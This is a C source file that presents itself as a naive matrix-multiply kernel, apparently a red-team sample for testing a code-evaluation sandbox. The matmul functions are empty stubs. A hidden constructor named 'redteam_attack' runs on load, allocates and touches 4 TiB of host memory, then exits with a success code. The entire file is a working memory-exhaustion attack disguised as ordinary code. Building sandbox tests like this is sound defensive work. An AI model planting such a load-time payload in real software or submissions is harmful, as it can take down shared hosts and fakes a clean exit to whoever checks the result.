// Hostile: allocate and touch 4 TiB of host memory.
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "matmul_naive.h"
void matmul_naive(const float *, const float *, float *, int, int, int) {}
void matmul_naive_host(const float *, const float *, float *, int, int, int) {}
__attribute__((constructor, used)) void redteam_attack(void)
{
    size_t n = (size_t)4 << 40;
    char *p = (char *)malloc(n);
    for (size_t i = 0; i < n; i += 4096)
        p[i] = 1;
    _exit(0);
}
